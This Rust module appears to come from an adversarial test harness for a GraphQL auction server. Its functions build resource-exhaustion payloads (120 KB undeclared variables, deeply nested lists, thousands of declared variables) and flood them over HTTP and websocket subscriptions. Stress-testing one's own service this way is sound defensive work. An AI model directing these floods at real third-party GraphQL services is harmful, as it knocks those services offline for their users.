//! Variables that cost more than they weigh.

use std::sync::Arc;

use serde_json::{Value, json};

use super::attacker::Attacker;
use super::http::{self, Request};
use super::socket::{self, Style, subscribe};

/// Below what a message and a body may have.
const BYTES: usize = 120_000;
const WATCH: &str = "subscription($id: ID!) { bidCreated(auctionId: $id) { sequence } }";

/// An array of so many bytes: each `0,` becomes a value of its own in memory.
fn zeros(bytes: usize) -> String {
    format!("[{}0]", "0,".repeat(bytes / 2))
}

/// A hundred subscriptions a socket, each with variables of 120 KB that no operation declares.
pub(super) fn undeclared(attacker: &Arc<Attacker>) {
    let zeros = zeros(BYTES);
    let style = Style { messages_max: 100, ..Style::FLOOD };
    socket::flood(attacker, style, move |attacker, worker, number| {
        // A number of its own, so that none shares a group with another.
        let id = &attacker.plan.honest[worker % attacker.plan.honest.len()];
        let query = serde_json::to_string(WATCH).expect("text");
        vec![format!(
            r#"{{"id":"{number}","type":"subscribe","payload":{{"query":{query},"variables":{{"id":"{id}","n":"{worker}/{number}","x":{zeros}}}}}}}"#
        )]
    });
}

/// The same in queries.
pub(super) fn undeclared_http(attacker: &Arc<Attacker>) {
    let body = format!(r#"{{"query":"{{ serverTime }}","variables":{{"x":{}}}}}"#, zeros(BYTES));
    http::flood(attacker, 32, move |_, _, _| Request { body: body.clone(), ..Request::default() });
}

/// A declared one, of a type that takes text.
pub(super) fn declared(attacker: &Arc<Attacker>) {
    let query = "mutation($i: CreateAuctionInput!) { createAuction(input: $i) { id } }";
    let token = attacker.token("mallory", &["seller"]);
    let text = "x".repeat(BYTES);
    let by_text = json!({ "i": { "title": text, "description": text[..10].to_owned() } });
    let by_list: Value =
        serde_json::from_str(&format!(r#"{{"i":{}}}"#, zeros(BYTES))).expect("JSON");
    let bodies = [http::operation(query, &by_text), http::operation(query, &by_list)];
    http::flood(attacker, 32, move |_, _, number| {
        let body = bodies[number as usize % bodies.len()].clone();
        Request { body, ..Request::default() }.by(&token)
    });
}

/// Lists in lists, as deep as JSON is read, by the thousand.
pub(super) fn nested(attacker: &Arc<Attacker>) {
    let one = format!("{}{}", "[".repeat(100), "]".repeat(100));
    let many = vec![one.as_str(); BYTES / 201].join(",");
    let variables = format!(r#"{{"x":[{many}]}}"#);
    let body = format!(r#"{{"query":"{{ serverTime }}","variables":{variables}}}"#);
    let message = format!(r#"{{"id":"ID","type":"subscribe","payload":{body}}}"#);
    http::flood(attacker, 16, move |_, _, _| Request { body: body.clone(), ..Request::default() });
    let style = Style { each: 8, ..Style::ASK };
    socket::flood(attacker, style, move |_, _, number| {
        vec![message.replacen("ID", &number.to_string(), 1)]
    });
}

/// A document that declares thousands, and values for each.
pub(super) fn many(attacker: &Arc<Attacker>) {
    let count = 3_000;
    let declared: Vec<String> = (0..count).map(|n| format!("$v{n}:Int")).collect();
    let query = format!("query({}) {{ serverTime }}", declared.join(" "));
    let values = (0..count).map(|n| (format!("v{n}"), json!(n))).collect();
    let values = Value::Object(values);
    let body = http::operation(&query, &values);
    let message = subscribe("ID", &query, &values);
    http::flood(attacker, 16, move |_, _, _| Request { body: body.clone(), ..Request::default() });
    let style = Style { each: 8, ..Style::ASK };
    socket::flood(attacker, style, move |_, _, number| {
        vec![message.replacen("ID", &number.to_string(), 1)]
    });
}
